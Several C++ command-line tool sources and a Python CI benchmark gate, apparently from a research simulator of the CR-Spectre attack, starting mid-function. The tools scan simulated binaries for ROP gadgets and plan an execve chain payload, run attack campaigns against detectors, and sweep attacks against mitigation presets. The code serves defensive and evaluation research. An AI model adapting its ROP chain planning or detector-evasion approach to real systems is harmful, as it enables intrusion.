    while (args.more_flags()) {
      if (args.take("--plan")) {
        plan_chain = true;
      } else if (args.take_value("--metrics", metrics_path)) {
      } else if (args.take_u64("--gen", u)) {
        margs.corpus.generated = static_cast<std::size_t>(u);
        mining = true;
      } else if (args.take_u64("--seed", margs.corpus.seed)) {
        mining = true;
      } else if (args.take_int("--gadget-bias", margs.corpus.gadget_bias)) {
        mining = true;
      } else if (args.take_value("--corpus", margs.corpus_dir)) {
        mining = true;
      } else if (args.take_u64("--threads", u)) {
        set_thread_override(static_cast<unsigned>(u));
      } else if (args.take_int("--max-window", n)) {
        margs.corpus.mine.max_window = n;
        mining = true;
      } else if (args.take("--no-validate")) {
        no_validate = true;
        mining = true;
      } else if (args.take_value("--mine-csv", margs.mine_csv)) {
        mining = true;
      } else if (args.take_value("--mine-json", margs.mine_json)) {
        mining = true;
      } else if (args.take_value("--emit-scenarios", margs.scenario_dir)) {
        mining = true;
      } else if (args.take("--check-golden")) {
        check_golden = true;
      } else if (args.take("--update-golden")) {
        update_golden = true;
      } else if (args.take("--help")) {
        return help();
      } else {
        args.unknown();
      }
    }
    margs.corpus.mine.validate = !no_validate;

    if (check_golden || update_golden) {
      if (args.more()) golden_dir = args.take_positional();
      return run_golden(golden_dir, update_golden);
    }
    if (mining) {
      if (args.more()) {
        throw Error("unexpected positional '" + args.current() +
                    "' in mining mode");
      }
      return run_mine(margs);
    }
    if (!args.more()) {
      std::fprintf(stderr, "missing input file\n");
      return 2;
    }
    return run_single(args.take_positional(), plan_chain, metrics_path);
  } catch (const Error& e) {
    std::fprintf(stderr, "gadget_hunter: %s\n", e.what());
    return 1;
  }
}
