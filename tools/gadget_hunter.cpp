// gadget_hunter — the offline half of the ROP attack as a CLI.
//
//   gadget_hunter <prog.s>            print the full gadget catalogue
//   gadget_hunter --plan <prog.s>     additionally plan the execve chain
//                                     (frame recon + payload hexdump)
//   gadget_hunter --metrics <out.csv> also dump scan metrics (gadget count,
//                                     chain feasibility, payload size) as CSV
//
// `prog.s` is assembled with the runtime library, like crsim does; the
// scanner then decodes its executable pages the way the paper's authors
// walked the victim in GDB.
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "core/report.hpp"
#include "obs/metrics.hpp"
#include "rop/plan.hpp"
#include "support/error.hpp"
#include "support/strings.hpp"

namespace {

std::string read_file(const std::string& path) {
  std::ifstream f(path);
  if (!f.good()) throw crs::Error("cannot read '" + path + "'");
  std::ostringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;
  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: gadget_hunter [--plan] [--metrics <out.csv>] "
                 "<prog.s>\n");
    return 2;
  }
  try {
    bool plan_chain = false;
    std::string metrics_path;
    int argi = 1;
    while (argi < argc && argv[argi][0] == '-') {
      const std::string flag = argv[argi];
      if (flag == "--plan") {
        plan_chain = true;
        ++argi;
      } else if (flag == "--metrics" && argi + 1 < argc) {
        metrics_path = argv[argi + 1];
        argi += 2;
      } else {
        std::fprintf(stderr, "unknown flag '%s'\n", flag.c_str());
        return 2;
      }
    }
    if (argi >= argc) {
      std::fprintf(stderr, "missing input file\n");
      return 2;
    }
    const std::string path = argv[argi];
    const sim::Program program =
        casm::assemble(read_file(path) + casm::runtime_library(),
                       {.name = path, .link_base = 0x10000});

    const auto gadgets = rop::GadgetScanner().scan(program);
    std::printf("%zu gadgets in executable pages of %s:\n", gadgets.size(),
                path.c_str());
    std::fputs(rop::describe_catalog(gadgets).c_str(), stdout);

    rop::ChainBuilder builder(gadgets);
    std::printf("\nexecve chain constructible: %s\n",
                builder.can_build_execve() ? "yes" : "NO");

    if constexpr (obs::kEnabled) {
      auto& reg = obs::MetricsRegistry::instance();
      reg.counter("rop.gadgets_found").add(gadgets.size());
      reg.gauge("rop.chain_constructible")
          .set(builder.can_build_execve() ? 1.0 : 0.0);
    }

    if (plan_chain && builder.can_build_execve()) {
      rop::ReconSpec spec;
      spec.path = path;
      const auto plan = rop::plan_injection(program, spec, "/bin/cr_spectre");
      if constexpr (obs::kEnabled) {
        obs::MetricsRegistry::instance()
            .counter("rop.payload_bytes")
            .add(plan.payload.bytes.size());
      }
      std::printf("frame: buffer %s, return slot %s, filler %llu bytes\n",
                  hex(plan.frame.buffer_address).c_str(),
                  hex(plan.frame.return_slot).c_str(),
                  static_cast<unsigned long long>(plan.frame.filler_length));
      std::printf("payload (%zu bytes):\n", plan.payload.bytes.size());
      for (std::size_t i = 0; i < plan.payload.bytes.size(); ++i) {
        if (i % 16 == 0) std::printf("  %04zx:", i);
        std::printf(" %02x", plan.payload.bytes[i]);
        if (i % 16 == 15) std::printf("\n");
      }
      if (plan.payload.bytes.size() % 16 != 0) std::printf("\n");
    }
    if (!metrics_path.empty()) {
      if (!obs::kEnabled) {
        std::fprintf(stderr,
                     "gadget_hunter: built with CRSPECTRE_OBS=OFF — metrics "
                     "output will be empty\n");
      }
      crs::core::write_text_file(metrics_path,
                                 obs::MetricsRegistry::instance().csv());
      std::printf("wrote %zu metrics to %s\n",
                  obs::MetricsRegistry::instance().size(),
                  metrics_path.c_str());
    }
    return 0;
  } catch (const Error& e) {
    std::fprintf(stderr, "gadget_hunter: %s\n", e.what());
    return 1;
  }
}
