// crs_top — `top` for the simulator: a live metrics table over a running
// campaign.
//
//   crs_top [--attempts N] [--windows W] [--seed S] [--threads N]
//           [--online] [--dynamic] [--interval-ms M] [--once]
//           [--metrics <out.csv>]
//
// A background thread builds the training corpora and runs an attack
// campaign; the foreground thread re-renders the metrics registry every
// --interval-ms until the campaign finishes, then prints the final table.
// --once skips the live loop and prints only the final state — the mode CI
// and scripts use. --metrics additionally writes the final registry CSV.
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <exception>
#include <string>
#include <thread>
#include <vector>

#include "core/campaign.hpp"
#include "core/corpus.hpp"
#include "core/report.hpp"
#include "hid/features.hpp"
#include "obs/metrics.hpp"
#include "support/error.hpp"
#include "support/flags.hpp"
#include "support/parallel.hpp"
#include "support/table.hpp"

namespace {

using namespace crs;

struct Options {
  int attempts = 6;
  std::size_t windows = 48;
  std::uint64_t seed = 5;
  unsigned threads = 0;
  bool online = false;
  bool dynamic = false;
  int interval_ms = 500;
  bool once = false;
  std::string metrics_path;
};

int usage() {
  std::fprintf(stderr,
               "usage: crs_top [--attempts N] [--windows W] [--seed S]\n"
               "               [--threads N] [--online] [--dynamic]\n"
               "               [--interval-ms M] [--once] "
               "[--metrics <out.csv>]\n");
  return 2;
}

bool parse_args(int argc, char** argv, Options& opt) {
  FlagCursor args(argc, argv);
  while (args.more()) {
    std::uint64_t u = 0;
    if (args.take_int("--attempts", opt.attempts)) {
    } else if (args.take_u64("--windows", u)) {
      opt.windows = static_cast<std::size_t>(u);
    } else if (args.take_u64("--seed", opt.seed)) {
    } else if (args.take_u64("--threads", u)) {
      opt.threads = static_cast<unsigned>(u);
    } else if (args.take_int("--interval-ms", opt.interval_ms)) {
    } else if (args.take_value("--metrics", opt.metrics_path)) {
    } else if (args.take("--online")) {
      opt.online = true;
    } else if (args.take("--dynamic")) {
      opt.dynamic = true;
    } else if (args.take("--once")) {
      opt.once = true;
    } else {
      args.unknown();
    }
  }
  return opt.attempts > 0 && opt.windows > 0 && opt.interval_ms > 0;
}

std::string render_registry() {
  Table table({"metric", "kind", "field", "value"});
  for (const auto& row : obs::MetricsRegistry::instance().rows()) {
    table.add_row({row.name, row.kind, row.field, row.value});
  }
  return table.render();
}

}  // namespace

int main(int argc, char** argv) {
  Options opt;
  try {
    if (!parse_args(argc, argv, opt)) return usage();
  } catch (const Error& e) {
    std::fprintf(stderr, "crs_top: %s\n", e.what());
    return usage();
  }
  if (!obs::kEnabled) {
    std::fprintf(stderr,
                 "crs_top: built with CRSPECTRE_OBS=OFF — the registry stays "
                 "empty\n");
  }
  if (opt.threads != 0) set_thread_override(opt.threads);

  std::atomic<bool> done{false};
  std::exception_ptr failure;
  core::CampaignResult result;

  // The campaign thread touches only the registry's atomics; the renderer
  // reads them through rows(), so concurrent rendering is safe.
  std::thread campaign([&] {
    try {
      core::CorpusConfig cc;
      cc.windows_per_class = opt.windows;
      cc.host_scale = 300;
      cc.seed = opt.seed ^ 0xC0FFEE;
      const auto benign = core::build_benign_corpus(cc);
      const auto attack = core::build_attack_corpus(cc);

      core::CampaignConfig cfg;
      cfg.detector.classifier = "MLP";
      cfg.detector.features = hid::paper_feature_indices();
      cfg.attempts = opt.attempts;
      cfg.seed = opt.seed;
      cfg.online_hid = opt.online;
      cfg.dynamic_perturbation = opt.dynamic;
      cfg.scenario.rop_injected = true;
      cfg.scenario.perturb = opt.dynamic;
      result = core::run_campaign(cfg, benign, attack);
    } catch (...) {
      failure = std::current_exception();
    }
    done.store(true, std::memory_order_release);
  });

  while (!opt.once && !done.load(std::memory_order_acquire)) {
    std::this_thread::sleep_for(std::chrono::milliseconds(opt.interval_ms));
    std::printf("\n=== crs_top (campaign running) ===\n%s",
                render_registry().c_str());
    std::fflush(stdout);
  }
  campaign.join();

  try {
    if (failure) std::rethrow_exception(failure);
  } catch (const Error& e) {
    std::fprintf(stderr, "crs_top: campaign failed: %s\n", e.what());
    return 1;
  } catch (const std::exception& e) {
    std::fprintf(stderr, "crs_top: campaign failed: %s\n", e.what());
    return 1;
  }

  std::printf("\n=== crs_top (final) ===\n%s", render_registry().c_str());
  std::printf(
      "campaign: %d attempts, mean detection %.3f, evasion fraction %.3f\n",
      opt.attempts, result.mean_detection(), result.evasion_fraction());
  if (!opt.metrics_path.empty()) {
    core::write_text_file(opt.metrics_path,
                          obs::MetricsRegistry::instance().csv());
    std::printf("wrote %zu metrics to %s\n",
                obs::MetricsRegistry::instance().size(),
                opt.metrics_path.c_str());
  }
  return 0;
}
