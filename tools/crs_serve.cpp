// crs_serve — the long-lived campaign service.
//
//   crs_serve [--port N | --unix <path>] [--shards N] [--queue N]
//             [--affinity on|off] [--session-cache N]
//             [--snapshot on|off] [--cow on|off] [--threads N]
//             [--metrics <out.csv>]
//
//     Listens for length-prefixed job frames (see src/serve/protocol.hpp),
//     runs scenario/campaign/matrix/program jobs on N worker shards with
//     bounded queues and cache-affine routing, streams progress frames and
//     returns results byte-identical to the batch CLIs. Runs until SIGINT /
//     SIGTERM or a client SHUTDOWN frame, then drains in-flight jobs and
//     exits, printing the admission tallies.
//
//   crs_serve --oneshot <jobspec-file|->
//
//     The batch twin of the served path: reads one job-spec text (as
//     carried by a SUBMIT frame; `-` = stdin), runs it in-process with no
//     sockets, and writes the result payload to stdout. A job served over
//     the wire and the same spec run through --oneshot produce identical
//     bytes — tests/test_serve.cpp holds the proof.
//
//   crs_serve --example scenario|campaign|matrix
//
//     Prints a default job spec of that kind (a template for hand-written
//     submissions and the docs).
#include <chrono>
#include <csignal>
#include <cstdio>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>
#include <thread>

#include "core/report.hpp"
#include "obs/metrics.hpp"
#include "serve/server.hpp"
#include "support/error.hpp"
#include "support/flags.hpp"
#include "support/parallel.hpp"

namespace {

volatile std::sig_atomic_t g_signal = 0;

void on_signal(int) { g_signal = 1; }

std::string read_file_or_stdin(const std::string& path) {
  std::ostringstream ss;
  if (path == "-") {
    ss << std::cin.rdbuf();
  } else {
    std::ifstream f(path);
    if (!f.good()) throw crs::Error("cannot read '" + path + "'");
    ss << f.rdbuf();
  }
  return ss.str();
}

int usage() {
  std::fprintf(
      stderr,
      "usage: crs_serve [--port N | --unix <path>] [--shards N] [--queue N]\n"
      "                 [--affinity on|off] [--session-cache N]\n"
      "                 [--snapshot on|off] [--cow on|off] [--threads N] "
      "[--metrics <out.csv>]\n"
      "       crs_serve --oneshot <jobspec-file|->\n"
      "       crs_serve --example scenario|campaign|matrix\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;
  try {
    serve::ServeConfig config;
    std::string oneshot_path;
    std::string example_kind;
    std::string metrics_path;
    std::string value;

    FlagCursor args(argc, argv);
    while (args.more()) {
      std::uint64_t u = 0;
      int n = 0;
      if (args.take_value("--oneshot", oneshot_path)) {
      } else if (args.take_value("--example", example_kind)) {
      } else if (args.take_u64("--port", u)) {
        config.tcp_port = static_cast<std::uint16_t>(u);
      } else if (args.take_value("--unix", config.unix_path)) {
      } else if (args.take_int("--shards", n)) {
        config.shards = n;
      } else if (args.take_u64("--queue", u)) {
        config.queue_capacity = u;
      } else if (args.take_value("--affinity", value)) {
        config.affinity = parse_on_off("--affinity", value);
      } else if (args.take_u64("--session-cache", u)) {
        config.session_cache_capacity = u;
      } else if (args.take_value("--snapshot", value)) {
        apply_snapshot_flag(value);
      } else if (args.take_value("--cow", value)) {
        apply_cow_flag(value);
      } else if (args.take_u64("--threads", u)) {
        set_thread_override(static_cast<unsigned>(u));
      } else if (args.take_value("--metrics", metrics_path)) {
      } else if (args.take("--help")) {
        return usage();
      } else {
        args.unknown();
      }
    }

    if (!example_kind.empty()) {
      core::JobSpec spec;
      if (example_kind == "scenario") {
        spec.kind = core::JobKind::kScenario;
      } else if (example_kind == "campaign") {
        spec.kind = core::JobKind::kCampaign;
      } else if (example_kind == "matrix") {
        spec.kind = core::JobKind::kMatrix;
        spec.matrix.config.quick = true;
      } else {
        throw Error("--example wants scenario, campaign or matrix, got '" +
                    example_kind + "'");
      }
      std::fputs(core::serialize_job(spec).c_str(), stdout);
      return 0;
    }

    if (!oneshot_path.empty()) {
      const core::JobSpec spec =
          core::parse_job(read_file_or_stdin(oneshot_path));
      const core::JobOutcome outcome = core::run_job(spec);
      std::fwrite(outcome.payload.data(), 1, outcome.payload.size(), stdout);
      return 0;
    }

    std::signal(SIGINT, on_signal);
    std::signal(SIGTERM, on_signal);

    serve::Server server(config);
    server.start();
    if (!config.unix_path.empty()) {
      std::fprintf(stderr, "[crs_serve] listening on unix:%s\n",
                   config.unix_path.c_str());
    } else {
      std::fprintf(stderr, "[crs_serve] listening on 127.0.0.1:%u\n",
                   static_cast<unsigned>(server.port()));
    }
    std::fprintf(stderr,
                 "[crs_serve] shards=%d queue=%zu affinity=%s "
                 "session-cache=%zu\n",
                 config.shards, config.queue_capacity,
                 config.affinity ? "on" : "off",
                 config.session_cache_capacity);

    while (g_signal == 0 && !server.shutdown_requested()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    std::fprintf(stderr, "[crs_serve] shutting down (draining)\n");
    server.shutdown(true);

    const serve::ServeStats stats = server.stats();
    std::fprintf(stderr,
                 "[crs_serve] received=%llu accepted=%llu rejected=%llu "
                 "completed=%llu cancelled=%llu\n",
                 static_cast<unsigned long long>(stats.received),
                 static_cast<unsigned long long>(stats.accepted),
                 static_cast<unsigned long long>(stats.rejected),
                 static_cast<unsigned long long>(stats.completed),
                 static_cast<unsigned long long>(stats.cancelled));

    if (!metrics_path.empty()) {
      core::write_text_file(metrics_path,
                            obs::MetricsRegistry::instance().csv());
      std::fprintf(stderr, "[crs_serve] wrote %zu metrics to %s\n",
                   obs::MetricsRegistry::instance().size(),
                   metrics_path.c_str());
    }
    return 0;
  } catch (const Error& e) {
    std::fprintf(stderr, "crs_serve: %s\n", e.what());
    return 1;
  }
}
