// trace_export — dump HPC window traces as CSV for external analysis.
//
//   trace_export benign <workload> <scale> <out.csv>
//   trace_export spectre <pht|rsb|stride|btb> <out.csv>
//   trace_export crspectre <host> <scale> <out.csv>   (injected + perturbed)
//   trace_export --golden <benign|spectre|crspectre> <ref.csv>
//   trace_export --update-golden [dir]
//   trace_export --chrome <benign|spectre|crspectre> <out.json>
//
// `--chrome` re-runs a golden scenario with structured tracing enabled and
// writes the merged Chrome trace_event JSON (chrome://tracing / Perfetto).
//
// Rows carry every universe feature (measured, i.e. noisy) plus the
// ground-truth `injected` flag. `--golden` re-runs the canonical small-scale
// scenario and diffs it against a checked-in reference CSV;
// `--update-golden` regenerates all references (default dir: tests/golden).
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>

#include "core/report.hpp"
#include "fuzz/golden.hpp"
#include "obs/trace.hpp"
#include "support/error.hpp"
#include "support/flags.hpp"
#include "core/scenario.hpp"
#include "hid/profiler.hpp"
#include "sim/kernel.hpp"
#include "workloads/workloads.hpp"

#ifndef CRS_GOLDEN_DIR
#define CRS_GOLDEN_DIR "tests/golden"
#endif

namespace {

using namespace crs;

int usage() {
  std::fprintf(stderr,
               "usage: trace_export benign <workload> <scale> <out.csv>\n"
               "       trace_export spectre <pht|rsb|stride|btb> <out.csv>\n"
               "       trace_export crspectre <host> <scale> <out.csv>\n"
               "       trace_export --golden <benign|spectre|crspectre> "
               "<ref.csv>\n"
               "       trace_export --update-golden [dir]\n"
               "       trace_export --chrome <benign|spectre|crspectre> "
               "<out.json>\n");
  return 2;
}

int golden_compare(const std::string& name, const std::string& ref_path) {
  const auto live = fuzz::golden_csv(name);
  const auto golden = fuzz::read_text_file(ref_path);
  const auto diff = fuzz::diff_csv(name, golden, live);
  if (diff.empty()) {
    std::printf("golden '%s' matches %s\n", name.c_str(), ref_path.c_str());
    return 0;
  }
  std::fputs(diff.c_str(), stderr);
  return 1;
}

int golden_update(const std::string& dir) {
  std::filesystem::create_directories(dir);
  for (const auto& name : fuzz::golden_scenario_names()) {
    const auto path = dir + "/" + name + ".csv";
    core::write_text_file(path, fuzz::golden_csv(name));
    std::printf("wrote %s\n", path.c_str());
  }
  return 0;
}

attack::SpectreVariant parse_variant(const std::string& name) {
  if (name == "pht") return attack::SpectreVariant::kPht;
  if (name == "rsb") return attack::SpectreVariant::kRsb;
  if (name == "stride") return attack::SpectreVariant::kStride;
  if (name == "btb") return attack::SpectreVariant::kBtb;
  throw Error("unknown variant '" + name + "'");
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;
  try {
    FlagCursor args(argc, argv);
    if (!args.more()) return usage();

    std::string value;
    if (args.take_value("--golden", value)) {
      if (!args.more()) return usage();
      const std::string ref = args.take_positional();
      if (args.more()) return usage();
      return golden_compare(value, ref);
    }
    if (args.take("--update-golden")) {
      const std::string dir =
          args.more() ? args.take_positional() : CRS_GOLDEN_DIR;
      if (args.more()) return usage();
      return golden_update(dir);
    }
    if (args.take_value("--chrome", value)) {
      if (!args.more()) return usage();
      const std::string out = args.take_positional();
      if (args.more()) return usage();
      if (!obs::kEnabled) {
        std::fprintf(stderr,
                     "trace_export: built with CRSPECTRE_OBS=OFF — the trace "
                     "will be empty\n");
      }
      obs::set_tracing_enabled(true);
      fuzz::golden_csv(value);  // runs the canonical scenario, traced
      obs::set_tracing_enabled(false);
      auto& sink = obs::TraceSink::instance();
      core::write_text_file(out, sink.chrome_json());
      std::printf("wrote %zu trace events to %s\n", sink.event_count(),
                  out.c_str());
      return 0;
    }
    if (args.more_flags()) args.unknown();

    const std::string mode = args.take_positional();
    std::vector<hid::WindowSample> windows;
    std::string out_path;

    if (mode == "benign") {
      if (argc != 5) return usage();
      const std::string name = args.take_positional();
      const auto scale = static_cast<std::uint64_t>(
          std::strtoull(args.take_positional().c_str(), nullptr, 0));
      out_path = args.take_positional();
      if (!workloads::is_known_workload(name)) {
        throw Error("unknown workload '" + name + "'");
      }
      sim::Machine machine;
      sim::Kernel kernel(machine);
      workloads::WorkloadOptions opt;
      opt.scale = scale;
      kernel.register_binary("/bin/w", workloads::build_workload(name, opt));
      windows =
          hid::profile_run_strings(kernel, "/bin/w", {name, "input"}, {})
              .windows;
    } else if (mode == "spectre") {
      if (argc != 4) return usage();
      const std::string variant = args.take_positional();
      out_path = args.take_positional();
      core::ScenarioConfig sc;
      sc.rop_injected = false;
      sc.variant = parse_variant(variant);
      windows = core::run_scenario(sc).profile.windows;
    } else if (mode == "crspectre") {
      if (argc != 5) return usage();
      core::ScenarioConfig sc;
      sc.host = args.take_positional();
      sc.host_scale = static_cast<std::uint64_t>(
          std::strtoull(args.take_positional().c_str(), nullptr, 0));
      out_path = args.take_positional();
      sc.rop_injected = true;
      sc.perturb = true;
      sc.perturb_params.delay = 1000;
      sc.perturb_params.loop_count = 16;
      windows = core::run_scenario(sc).profile.windows;
    } else {
      return usage();
    }

    core::write_text_file(out_path, core::windows_to_csv(windows));
    std::printf("wrote %zu windows to %s\n", windows.size(), out_path.c_str());
    return 0;
  } catch (const Error& e) {
    std::fprintf(stderr, "trace_export: %s\n", e.what());
    return 1;
  }
}
