#!/usr/bin/env python3
"""Gate the perf-smoke CI job on the campaign fast-reset benchmarks.

Reads the newline-delimited records that the --bench-json reporter appends
(`{"name":...,"wall_ms":...,"items_per_s":...}` per run) and compares them
against the checked-in baseline (bench/baselines/perf_smoke.json):

  * every baselined benchmark must be present in the measured file;
  * measured items_per_s must not fall more than max_regression_fraction
    below the baseline value;
  * BM_CampaignThroughput/1 (snapshot fast path) must stay at least
    min_ratio_snapshot_over_legacy times BM_CampaignThroughput/0 (legacy
    rebuild path) -- the machine-independent guard;
  * every entry of min_ratios ({"name", "numerator", "denominator",
    "floor"}) must hold: measured items_per_s of numerator over denominator
    at least floor. The blocks-vs-interp gate (BM_CpuThroughput/2 over
    BM_CpuThroughput/1 >= 2.5x) lives here.

Ratio gates are skipped (not failed) when either side is absent from the
measured file, so partial bench runs can still be checked against the
benchmarks they did produce.

Exit status 0 on pass, 1 on any violation. Stdlib only.
"""

import argparse
import json
import sys


def load_measured(path):
    """Last record wins when a benchmark appears more than once."""
    measured = {}
    with open(path, encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if not line:
                continue
            record = json.loads(line)
            measured[record["name"]] = float(record["items_per_s"])
    return measured


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--bench-json", required=True,
                        help="measured results (one JSON record per line)")
    parser.add_argument("--baseline", required=True,
                        help="checked-in baseline JSON")
    args = parser.parse_args()

    with open(args.baseline, encoding="utf-8") as fh:
        baseline = json.load(fh)
    measured = load_measured(args.bench_json)

    max_drop = float(baseline.get("max_regression_fraction", 0.20))
    failures = []

    for name, expect in baseline["benchmarks"].items():
        if name not in measured:
            failures.append(f"{name}: missing from {args.bench_json}")
            continue
        floor = float(expect["items_per_s"]) * (1.0 - max_drop)
        got = measured[name]
        verdict = "ok" if got >= floor else "REGRESSED"
        print(f"{name}: {got:.1f} items/s "
              f"(baseline {expect['items_per_s']:.1f}, floor {floor:.1f}) "
              f"{verdict}")
        if got < floor:
            failures.append(
                f"{name}: {got:.1f} items/s is below the regression floor "
                f"{floor:.1f} ({max_drop:.0%} under baseline "
                f"{expect['items_per_s']:.1f})")

    ratio_gates = []
    min_ratio = float(baseline.get("min_ratio_snapshot_over_legacy", 0.0))
    if min_ratio > 0.0:
        ratio_gates.append({
            "name": "snapshot/legacy",
            "numerator": "BM_CampaignThroughput/1",
            "denominator": "BM_CampaignThroughput/0",
            "floor": min_ratio,
        })
    ratio_gates.extend(baseline.get("min_ratios", []))

    for gate in ratio_gates:
        num = measured.get(gate["numerator"])
        den = measured.get(gate["denominator"])
        floor = float(gate["floor"])
        if num is None or den is None:
            print(f"{gate['name']} throughput ratio: skipped "
                  f"(missing {gate['numerator'] if num is None else gate['denominator']})")
            continue
        ratio = num / den if den > 0.0 else float("inf")
        verdict = "ok" if ratio >= floor else "REGRESSED"
        print(f"{gate['name']} throughput ratio: {ratio:.2f}x "
              f"(floor {floor:.2f}x) {verdict}")
        if ratio < floor:
            failures.append(
                f"{gate['name']}: {gate['numerator']} is only {ratio:.2f}x "
                f"{gate['denominator']} (floor {floor:.2f}x)")

    if failures:
        print("\nperf-smoke FAILED:", file=sys.stderr)
        for failure in failures:
            print(f"  - {failure}", file=sys.stderr)
        return 1
    print("\nperf-smoke passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
