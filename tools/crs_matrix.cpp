// crs_matrix — the attack-vs-defense evaluation matrix.
//
//   crs_matrix                        full sweep, table to stdout
//   crs_matrix --quick                CI-sized sweep (fewer attempts)
//   crs_matrix --presets a,b,c        only these mitigation presets
//   crs_matrix --attempts N           attempts per (attack, preset) cell
//   crs_matrix --seed S               base seed (cells derive from it)
//   crs_matrix --csv <path>           write the matrix as CSV
//   crs_matrix --json <path>          write the matrix as JSON
//   crs_matrix --metrics <path>       write per-preset mitigation counters
//   crs_matrix --check                exit non-zero unless the expected
//                                     story holds: `none` leaks, `full`
//                                     blocks every attack, and every armed
//                                     preset shows mitigation activity
//   crs_matrix --threads N            worker-pool width (results identical
//                                     for any value)
//   crs_matrix --snapshot on|off      snapshot/memo fast-reset engine
//                                     (default on; off = legacy rebuild of
//                                     every machine and binary per attempt)
//   crs_matrix --cow on|off           copy-on-write machine forking
//                                     (default on: sessions replicate from
//                                     a shared frozen baseline in O(dirty
//                                     pages); off = private builds). Cost
//                                     switch only — bytes identical
//   crs_matrix --exec interp|blocks   execution engine for every simulated
//                                     machine in the sweep (default blocks;
//                                     results identical for either — the
//                                     engines are bit-identical)
//   crs_matrix --bench-json <path>    append a perf record for the sweep
//   crs_matrix --mined N              append up to N mined-gadget attack
//                                     rows (gadget_hunter's miner over a
//                                     seeded generated corpus) after the
//                                     built-in attacks
//   crs_matrix --mined-seed S         corpus seed for --mined (default 2026)
//   crs_matrix --harden-sweep         sweep the HARDENING presets (none,
//                                     aslr, canary, heap-guard, full)
//                                     against {stack-overflow,
//                                     spec-probe-rop, spectre-1.1} instead
//                                     of the mitigation matrix. --presets /
//                                     --attempts / --seed / --csv /
//                                     --metrics / --check / --quick apply;
//                                     --check gates the hardening story
//                                     (canary kills the classic overflow,
//                                     the speculative attacks pierce full)
//
// Sweeps {spectre-pht, spectre-rsb, cr-spectre} × {mitigation presets} and
// reports leak-success rate, HID detection over attack windows, mitigation
// engagement, and per-preset clean-host IPC overhead.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "core/defense_matrix.hpp"
#include "core/harden_matrix.hpp"
#include "core/report.hpp"
#include "mine/mine.hpp"
#include "sim/cpu.hpp"
#include "support/error.hpp"
#include "support/flags.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"
#include "support/strings.hpp"

using namespace crs;

namespace {

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--quick] [--check] [--presets a,b,c] "
               "[--attempts N] [--seed S] [--csv <path>] [--json <path>] "
               "[--metrics <path>] [--threads N] [--snapshot on|off] "
               "[--cow on|off] "
               "[--exec interp|blocks] [--bench-json <path>] "
               "[--mined N] [--mined-seed S] [--harden-sweep]\n",
               argv0);
  return 2;
}

/// Up to `count` extra attack rows from the gadget miner: a small seeded
/// generated corpus is mined, and each scenario-eligible gadget becomes a
/// standalone "mined-<class>-<k>" row. Deterministic in (seed, count).
std::vector<core::AttackSpec> mined_attacks(
    const core::DefenseMatrixConfig& config, int count, std::uint64_t seed) {
  mine::CorpusOptions opt;
  opt.generated = 8;
  opt.seed = seed;
  const mine::CorpusReport report = mine::mine_corpus(opt);
  std::vector<core::AttackSpec> out;
  for (const auto& b : report.binaries) {
    for (const auto& g : b.gadgets) {
      if (!g.scenario_eligible) continue;
      if (static_cast<int>(out.size()) >= count) break;
      core::AttackSpec a;
      a.name = "mined-" + mine::gadget_class_name(g.cls) + "-" +
               std::to_string(out.size());
      a.scenario = mine::mined_scenario(g, config.secret, /*injected=*/false);
      out.push_back(a);
    }
  }
  if (static_cast<int>(out.size()) < count) {
    std::fprintf(stderr,
                 "[crs_matrix] corpus yielded %zu scenario-eligible mined "
                 "gadget(s) (wanted %d)\n",
                 out.size(), count);
  }
  return out;
}

void apply_exec_flag(const std::string& value) {
  if (const auto engine = sim::parse_exec_engine(value)) {
    sim::set_default_exec_engine(*engine);
  } else {
    throw Error("--exec wants 'interp' or 'blocks', got '" + value + "'");
  }
}

/// The CI gate: the undefended column must reproduce the paper's leak, the
/// full stack must stop everything, and every armed preset must actually
/// have done something.
int check_story(const core::DefenseMatrixResult& result) {
  int failures = 0;
  const auto fail = [&](const std::string& what) {
    std::fprintf(stderr, "[crs_matrix] CHECK FAILED: %s\n", what.c_str());
    ++failures;
  };
  for (const auto& attack : result.attacks) {
    const auto& undefended = result.cell(attack, "none");
    if (undefended.leaks == 0) {
      fail(attack + " under 'none' never recovered the secret");
    }
    const auto& full = result.cell(attack, "full");
    if (full.leaks != 0) {
      fail(attack + " under 'full' still leaked (" +
           std::to_string(full.leaks) + "/" +
           std::to_string(full.attempts) + ")");
    }
  }
  for (const auto& preset : result.presets) {
    const std::uint64_t events = result.preset_summary(preset).total_events();
    if (preset == "none") {
      if (events != 0) {
        fail("'none' reported mitigation activity (" +
             std::to_string(events) + " events)");
      }
    } else if (events == 0) {
      fail("preset '" + preset + "' reported zero mitigation activity");
    }
  }
  if (failures == 0) {
    std::fprintf(stderr, "[crs_matrix] check passed: none leaks, full "
                         "blocks, every armed preset engaged\n");
  }
  return failures == 0 ? 0 : 1;
}

/// The harden-sweep CI gate: the classic overflow must die under canary,
/// aslr and full, both speculative attacks must keep leaking under full,
/// every row must leak in the unhardened column, and the none column must
/// report zero hardening activity.
int check_harden_story(const core::HardenMatrixResult& result) {
  int failures = 0;
  const auto fail = [&](const std::string& what) {
    std::fprintf(stderr, "[crs_matrix] CHECK FAILED: %s\n", what.c_str());
    ++failures;
  };
  const auto has = [&](const char* name) {
    for (const auto& p : result.presets) {
      if (p == name) return true;
    }
    return false;
  };
  for (const auto& attack : result.attacks) {
    if (has("none") && result.cell(attack, "none").leaks == 0) {
      fail(attack + " under 'none' never recovered the secret");
    }
  }
  for (const char* preset : {"canary", "aslr", "full"}) {
    if (!has(preset)) continue;
    const auto& c = result.cell("stack-overflow", preset);
    if (c.leaks != 0) {
      fail("stack-overflow under '" + std::string(preset) + "' still leaked");
    }
  }
